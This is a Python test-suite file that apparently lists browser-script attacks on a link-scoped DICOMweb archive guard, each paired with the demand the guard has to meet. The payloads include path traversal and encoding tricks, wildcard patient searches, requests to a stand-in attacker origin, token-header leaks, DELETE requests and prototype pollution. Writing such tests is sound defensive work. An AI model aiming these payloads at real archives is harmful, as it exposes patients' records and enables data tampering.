"""Requests that some code in the page wants to make: only what is about the link's study leaves, and where it may go."""

from __future__ import annotations

from attacks import weakenings as weak
from attacks.demands import (
    archive_gets_no_token,
    archive_gets_only_the_study,
    attacker_gets_no_token,
    everything,
    only_reads,
    result_is,
    token_once,
    token_only_in_its_header,
)
from attacks.hostile import answering, redirecting
from attacks.model import PageAttack, Weakening
from attacks.rows.ways import script

# Each vehicle asks for ${url}.
FETCH = "await fetch(url).catch(() => {});"
REQUEST = "await fetch(new Request(url)).catch(() => {});"
URL_OBJECT = "await fetch(new URL(url, location.href)).catch(() => {});"
XHR = "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', url); x.onloadend = done; x.send(); });"
IMAGE = "await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = url; });"
VIDEO = "await new Promise(done => { const v = document.createElement('video'); v.oncanplay = v.onerror = done; v.src = url; });"
SOURCE = (
    "await new Promise(done => { const v = document.createElement('video'), s = document.createElement('source');"
    " s.onerror = done; s.src = url; v.append(s); document.body.append(v); });"
)
FRAME = (
    "await new Promise(done => { const f = document.createElement('iframe'); f.onload = f.onerror = done;"
    " f.setAttribute('src', url); document.body.append(f); });"
)
OBJECT = (
    "await new Promise(done => { const o = document.createElement('object'); o.onload = o.onerror = done; o.data = url;"
    " document.body.append(o); setTimeout(done, 400); });"
)
EMBED = OBJECT.replace("'object'", "'embed'").replace("o.data", "o.src")


def asks(name: str, why: str, tail: str, weakened: Weakening = weak.NO_LAST_EXIT, vehicle: str = FETCH) -> PageAttack:
    """Something below the root is asked for, which is not about the link's study alone."""
    return script(name, why, f"const url = `${{root}}{tail}`; {vehicle}", archive_gets_only_the_study, weakened)


def sends(name: str, why: str, method: str) -> PageAttack:
    """Something is sent to the link's own study."""
    js = f"await fetch(`${{root}}/studies/${{own}}`, {{ method: '{method}', body: 'x' }}).catch(() => {{}})"
    return script(name, why, js, only_reads, weak.ANY_METHOD)


OTHERS = (
    asks("other-study", "a study that the link does not name", "/studies/${other}/series"),
    asks("other-study-request", "the same as a Request object", "/studies/${other}/series", vehicle=REQUEST),
    asks("other-study-url-object", "the same as a URL object", "/studies/${other}/series", vehicle=URL_OBJECT),
    asks("other-study-xhr", "the same by XMLHttpRequest", "/studies/${other}/series", vehicle=XHR),
    asks("other-study-image", "the same as a picture", "/studies/${other}/rendered", vehicle=IMAGE),
    asks("other-study-video", "the same as a film", "/studies/${other}/rendered", vehicle=VIDEO),
    asks("other-study-source", "the same as one source of a film", "/studies/${other}/rendered", vehicle=SOURCE),
    asks("other-study-frame", "the same in a frame", "/studies/${other}/rendered", vehicle=FRAME),
    asks("other-study-object", "the same as an object", "/studies/${other}/rendered", vehicle=OBJECT),
    asks("other-study-embed", "the same embedded", "/studies/${other}/rendered", vehicle=EMBED),
    asks("other-patient", "a study of another patient", "/studies/${stranger}/metadata", vehicle=XHR),
    asks("other-study-searched", "a search pinned to another study", "/studies?StudyInstanceUID=${other}"),
    asks("other-study-by-tag", "the same by the attribute's tag", "/studies?0020000D=${other}"),
    asks("other-study-wado-uri", "another study by WADO-URI", "?requestType=WADO&studyUID=${other}&seriesUID=1.2&objectUID=1.2.3"),
    asks("own-and-other", "a list of studies that begins with the link's", "/studies?StudyInstanceUID=${own},${other}", weak.ONE_STUDY_IS_ENOUGH),
    asks("own-or-other", "the same list with the separator of DICOM", "/studies?StudyInstanceUID=${own}%5C${other}", weak.ONE_STUDY_IS_ENOUGH),
    asks("study-twice", "two studies, of which an archive may take the last", "/studies?StudyInstanceUID=${own}&StudyInstanceUID=${other}", weak.ONE_STUDY_IS_ENOUGH),
    asks("study-twice-turned", "two studies, of which an archive may take the first", "/studies?StudyInstanceUID=${other}&StudyInstanceUID=${own}", weak.ONE_STUDY_IS_ENOUGH),
    asks("own-path-other-query", "the link's study in the path, another in the query", "/studies/${own}/series?StudyInstanceUID=${other}", weak.PATH_NAMES_THE_STUDY),
    asks("other-path-own-query", "another study in the path, the link's in the query", "/studies/${other}/series?StudyInstanceUID=${own}", weak.QUERY_NAMES_THE_STUDY),
    asks("any-series", "a series of another study, beside the link's study", "/series/9.9/instances?StudyInstanceUID=${own}", weak.OTHER_IS_FREE),
    asks("any-instance", "an instance of another study, beside the link's study", "/instances/9.9/frames/1?StudyInstanceUID=${own}", weak.OTHER_IS_FREE),
    asks("any-service", "another service of the archive below the root", "/servers/pacs/stow?StudyInstanceUID=${own}", weak.OTHER_IS_FREE),
)

SEARCHES = (
    asks("all-studies", "a search over the archive", "/studies", weak.OPEN_SEARCHES),
    asks("all-studies-slash", "the same with a slash", "/studies/", weak.OPEN_SEARCHES),
    asks("all-series", "a search over all series", "/series", weak.OPEN_SEARCHES, XHR),
    asks("all-instances", "a search over all instances", "/instances?limit=100", weak.OPEN_SEARCHES),
    asks("instances-of-a-series", "a search that names a series only", "/instances?SeriesInstanceUID=1.2.3", weak.OPEN_SEARCHES),
    asks("studies-of-a-day", "a search by date", "/studies?StudyDate=20240101-20241231", weak.OPEN_SEARCHES),
    asks("studies-by-accession", "a search by accession number", "/studies?AccessionNumber=*", weak.OPEN_SEARCHES),
    asks("patient-id", "the patient's other studies", "/studies?PatientID=${patient}", weak.PATIENTS_ARE_FREE),
    asks("patient-id-tag", "the same by the attribute's tag", "/studies?00100020=${patient}", weak.PATIENTS_ARE_FREE),
    asks("patient-wildcard", "all patients whose ID holds this one", "/studies?PatientID=*${patient}*", weak.PATIENTS_ARE_FREE, XHR),
    asks("patient-name", "all patients of a name", "/studies?PatientName=M*", weak.PATIENTS_ARE_FREE),
    asks("patient-birth-date", "all patients born on a day", "/studies?PatientBirthDate=19610417", weak.PATIENTS_ARE_FREE),
    asks("patient-birth-date-tag", "the same by the attribute's tag", "/studies?00100030=19610417", weak.PATIENTS_ARE_FREE),
    asks("other-patient-ids", "patients by an ID of another hospital", "/studies?OtherPatientIDs=1", weak.PATIENTS_ARE_FREE),
    asks("own-study-any-patient", "the link's study beside a patient", "/studies?StudyInstanceUID=${own}&PatientID=${patient}", weak.PATIENTS_ARE_FREE),
    asks("own-study-any-name", "the link's study beside a name", "/studies?StudyInstanceUID=${own}&PatientName=*", weak.PATIENT_ID_ONLY),
)

SPELLINGS = (
    asks("study-in-small-letters", "a name that some archives read and others pass over", "/studies?studyinstanceuid=${own}", weak.OTHER_IS_FREE),
    asks("study-in-ohifs-plural", "the name that links have", "/studies?StudyInstanceUIDs=${own}", weak.OTHER_IS_FREE),
    asks("tag-with-comma", "a tag that some archives read", "/studies?0020,000D=${own}", weak.OTHER_IS_FREE),
    asks("semicolon-parameter", "a separator that some servers know", "/studies?StudyInstanceUID=${own};PatientID=*", weak.OTHER_IS_FREE),
    asks("encoded-name", "a name that is encoded", "/studies?StudyInstanceUID=${own}&Patient%49D=1", weak.OTHER_IS_FREE),
    asks("twice-encoded-value", "a value that some servers decode twice", "/studies?StudyInstanceUID=${own}%252C${other}", weak.OTHER_IS_FREE),
    asks("null-in-value", "a value that ends early for some servers", "/studies?StudyInstanceUID=${own}%00.1", weak.OTHER_IS_FREE),
    asks("wildcard-study", "a UID with a wildcard", "/studies?StudyInstanceUID=2.25.*", weak.OTHER_IS_FREE),
    asks("empty-study", "a UID that is empty", "/studies?StudyInstanceUID=", weak.OTHER_IS_FREE),
    asks("wado-uri-twice", "two studies in one WADO-URI", "?requestType=WADO&studyUID=${own}&studyUID=${other}&objectUID=1.2.3", weak.OTHER_IS_FREE),
    asks("wado-uri-small", "WADO-URI with names in other letters", "?requestType=WADO&studyUID=${own}&StudyUID=${other}&objectUID=1.2.3", weak.OTHER_IS_FREE),
)


def climbs(name: str, why: str, path: str, vehicle: str = FETCH) -> PageAttack:
    """A path that begins like one of the link's study, and that some server reads as another."""
    return script(name, why, f"const url = {path}; {vehicle}", archive_gets_no_token, weak.ANY_PATH)


PATHS = (
    climbs("encoded-slash", "servers that decode before they resolve '..'", "`${root}/studies/${own}/..%2f${other}/series`"),
    climbs("encoded-backslash", "servers that take a backslash for a slash", "`${root}/studies/${own}/..%5c${other}/series`", XHR),
    climbs("encoded-twice", "servers that decode twice", "`${root}/studies/${own}/%252e%252e/${other}/series`"),
    climbs("dots-and-semicolon", "Java servers, which drop ;x before they resolve '..'", "`${root}/studies/${own}/..;/${other}/series`"),
    climbs("path-parameter", "Java servers, which drop ;x", "`${root}/studies/${own};x/series`", XHR),
    climbs("encoded-semicolon", "the same for servers that decode first", "`${root}/studies/${own}%3bx/series`"),
    climbs("overlong-utf-8", "decoders that accept overlong UTF-8", "`${root}/studies/${own}/%c0%ae%c0%ae/${other}/series`"),
    climbs("overlong-slash", "the same for a slash", "`${root}/studies/${own}/..%c0%af${other}/series`"),
    climbs("null-in-path", "servers that end a path at a null", "`${root}/studies/${own}%00/series`"),
    climbs("line-break-in-path", "servers that end a line there", "`${root}/studies/${own}%0d%0aX-Y:%20z/series`"),
    climbs("doubled-slash", "servers that fold slashes, and those that do not", "`${root}//studies/${own}/series`"),
    climbs("other-alphabet", "letters that some servers fold to ASCII", "`${root}/studies/${own}/ｓeries`"),
    climbs("hidden-segment", "files that begin with a dot", "`${root}/studies/${own}/.git/config`"),
    climbs("encoded-dot-file", "the same, encoded", "`${root}/studies/${own}/%2egit/config`", IMAGE),
)

PLACES = (
    script(
        "root-as-prefix",
        "a path that begins like the root and is another",
        "await fetch(`${root}-evil/studies/${own}/series`).catch(() => {})",
        token_only_in_its_header,
        weak.ROOT_BY_PREFIX,
    ),
    script(
        "root-at-another-origin",
        "the root's path on the attacker's server, where no policy is in force",
        "await fetch(`${evil}${root}/studies/${own}/series`).catch(() => {})",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "root-at-another-origin-xhr",
        "the same by XMLHttpRequest",
        f"const url = `${{evil}}${{root}}/studies/${{own}}/series`; {XHR}",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "root-at-another-origin-image",
        "the same as a picture",
        f"const url = `${{evil}}${{root}}/studies/${{own}}/rendered`; {IMAGE}",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "base-tag",
        "a <base> makes every relative URL another server's",
        "const b = document.createElement('base'); b.href = evil; document.head.append(b);"
        "await fetch(root.slice(0) + '/studies/' + own + '/series').catch(() => {});"
        "await fetch(root.slice(1) + '/studies/' + own + '/series').catch(() => {})",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
)

REDIRECT_STATUSES = (301, 302, 303, 307, 308)
REDIRECTED = tuple(
    script(
        f"redirect-{status}-{way}-{where}",
        f"the archive answers {status}, and {way} follows",
        f"const url = `${{root}}/studies/${{own}}/series`; {vehicle}",
        everything(token_only_in_its_header, attacker_gets_no_token),
        weak.REDIRECTS,
        archive=redirecting(status, target, part="/series"),
    )
    for status in REDIRECT_STATUSES
    for way, vehicle in (("fetch", FETCH), ("xhr", XHR))
    for where, target in (("same-origin", "/elsewhere/series"),)
) + (
    script(
        "redirect-image",
        "the archive sends a picture elsewhere in the origin",
        f"const url = `${{root}}/studies/${{own}}/rendered`; {IMAGE}",
        token_only_in_its_header,
        weak.REDIRECTS,
        archive=redirecting(302, "/elsewhere/picture", part="rendered"),
    ),
    script(
        "redirect-frame",
        "the archive sends a document elsewhere in the origin",
        f"const url = `${{root}}/studies/${{own}}/rendered`; {OBJECT}",
        token_only_in_its_header,
        weak.REDIRECTS,
        archive=redirecting(307, "/elsewhere/document", part="rendered"),
    ),
    script(
        "redirect-to-other-study",
        "the archive sends a request of the link's study to another one",
        "const url = `${root}/studies/${own}/series`; await fetch(url).catch(() => {})",
        archive_gets_only_the_study,
        weak.REDIRECTS,
        archive=redirecting(302, "/dicom-web/studies", part="/series"),
    ),
    script(
        "redirect-follow-asked-for",
        "the page's own code asks for redirects to be followed",
        "await fetch(`${root}/studies/${own}/series`, { redirect: 'follow' }).catch(() => {})",
        token_only_in_its_header,
        weak.REDIRECTS,
        archive=redirecting(302, "/elsewhere/series", part="/series"),
    ),
)

METHODS = (
    sends("post", "an archive that stores what it is sent", "POST"),
    sends("put", "an archive that replaces what it is sent", "PUT"),
    sends("delete", "an archive that deletes", "DELETE"),
    sends("patch", "an archive that changes", "PATCH"),
    script(
        "delete-xhr",
        "the same by XMLHttpRequest",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.open('DELETE', `${root}/studies/${own}`); x.onloadend = done; x.send(); })",
        only_reads,
        weak.ANY_METHOD,
    ),
    script(
        "method-of-a-request",
        "the method stands in a Request and not in the options",
        "await fetch(new Request(`${root}/studies/${own}`, { method: 'DELETE' })).catch(() => {})",
        only_reads,
        weak.ANY_METHOD,
    ),
    script(
        "method-changes",
        "an option that reads GET the first time and DELETE the second",
        "let n = 0; await fetch(`${root}/studies/${own}`, { get method() { return n++ ? 'DELETE' : 'GET'; } }).catch(() => {});"
        "let m = 1; await fetch(`${root}/studies/${own}`, { get method() { return m++ ? 'DELETE' : 'GET'; } }).catch(() => {})",
        only_reads,
        weak.ANY_METHOD,
    ),
)

HEADER = (
    script(
        "header-doubled",
        "an archive that takes the first of two tokens",
        "await fetch(`${root}/studies/${own}/series`, { headers: [['token', 'mine'], ['Token', 'too']] }).catch(() => {})",
        token_once,
        weak.HEADER_BESIDES,
    ),
    script(
        "header-doubled-xhr",
        "the same by XMLHttpRequest",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', `${root}/studies/${own}/series`);"
        " x.setRequestHeader('TOKEN', 'mine'); x.setRequestHeader('Authorization', `Bearer ${token}`); x.onloadend = done; x.send(); })",
        everything(token_once, token_only_in_its_header),
        weak.ANY_HEADER,
    ),
    script(
        "header-elsewhere",
        "code that sets the header on every request, as OHIF does",
        "await fetch('/elsewhere', { headers: { token } }).catch(() => {});",
        token_only_in_its_header,
        weak.ANY_HEADER,
    ),
    script(
        "header-elsewhere-xhr",
        "the same by XMLHttpRequest",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', '/elsewhere'); x.setRequestHeader('token', token); x.onloadend = done; x.send(); })",
        token_only_in_its_header,
        weak.ANY_HEADER,
    ),
    script(
        "bearer-elsewhere",
        "OHIF's own header with the token",
        "await fetch('/elsewhere', { headers: { Authorization: `Bearer ${token}` } }).catch(() => {});",
        token_only_in_its_header,
        weak.ANY_HEADER,
    ),
    script(
        "header-of-a-request-elsewhere",
        "the header stands in a Request",
        "await fetch(new Request('/elsewhere', { headers: { token } })).catch(() => {});",
        token_only_in_its_header,
        weak.ANY_HEADER,
    ),
    script(
        "no-token-without-guard",
        "a request under the root that no guard sees has no token: the archive refuses the link's own study",
        f"const url = `${{root}}/studies/${{own}}/series`; {XHR}",
        token_once,
        weak.NATIVE_XHR,
    ),
    script(
        "no-token-fetch",
        "the same by fetch",
        f"const url = `${{root}}/studies/${{own}}/series`; {FETCH}",
        token_once,
        weak.NATIVE_FETCH,
    ),
    script(
        "no-token-media",
        "the same for a picture",
        f"const url = `${{root}}/studies/${{own}}/rendered`; {IMAGE}",
        token_once,
        weak.NATIVE_MEDIA,
    ),
)

TRICKS = (
    script(
        "url-changes",
        "an object that is the link's study when it is judged, and another place when it is sent",
        "let n = 0; const shifting = { toString: () => n++ ? '/elsewhere' : `${root}/studies/${own}/series` };"
        "await fetch(shifting).catch(() => {}); await fetch(shifting).catch(() => {})",
        everything(token_only_in_its_header, archive_gets_only_the_study),
        weak.READ_TWICE,
    ),
    script(
        "url-property",
        "an object with a url of its own that is not where it goes",
        "await fetch({ url: `${root}/studies/${own}/series`, toString: () => '/elsewhere' }).catch(() => {})",
        token_only_in_its_header,
        weak.URL_PROPERTY,
    ),
    script(
        "xhr-opened-anew",
        "a request that is opened for the study, and then for another place",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', `${root}/studies/${own}/series`);"
        " x.open('GET', '/elsewhere'); x.onloadend = done; x.send(); })",
        token_only_in_its_header,
        weak.STALE_XHR,
    ),
    script(
        "xhr-opened-for-another-study",
        "a request that is opened for the study, and then for another one",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', `${root}/studies/${own}/series`);"
        " x.open('GET', `${root}/studies/${other}/series`); x.onloadend = done; x.send(); })",
        archive_gets_only_the_study,
        weak.NO_LAST_EXIT,
    ),
    script(
        "xhr-as-someone",
        "a request with a user name and a password",
        "await new Promise(done => { const x = new XMLHttpRequest(); x.open('GET', `${root}/studies/${other}/series`, true, 'u', 'p'); x.onloadend = done; x.send(); })",
        token_only_in_its_header,
        weak.AS_SOMEONE,
    ),
    script(
        "request-that-lies",
        "a Request whose url says something else than where it goes",
        "const r = new Request('/elsewhere'); Object.defineProperty(r, 'url', { value: `${origin}${root}/studies/${own}/series` });"
        "await fetch(r).catch(() => {})",
        token_only_in_its_header,
        weak.VERDICT_BY_FIRST_URL,
    ),
    script(
        "polluted-prototype",
        "a study's metadata that sets properties of every object",
        "Object.prototype.url = `${location.origin}${root}/studies/${own}/series`; Object.prototype.permitted = true;"
        "await fetch('/elsewhere').catch(() => {}); await fetch(`${root}/studies/${other}/series`).catch(() => {})",
        everything(token_only_in_its_header, archive_gets_only_the_study),
        weak.NO_LAST_EXIT,
    ),
    script(
        "xml-document",
        "an archive's answer that becomes a document of the page",
        "return await new Promise(done => { const x = new XMLHttpRequest(); x.responseType = 'document';"
        " x.open('GET', `${root}/studies/${own}/series`); x.onloadend = () => done(x.response === null); x.send(); })",
        result_is(True),
        weak.NATIVE_XHR,
        archive=answering("<a/>", "text/xml", part="/series"),
    ),
)

ROWS = (*OTHERS, *SEARCHES, *SPELLINGS, *PATHS, *PLACES, *REDIRECTED, *METHODS, *HEADER, *TRICKS)
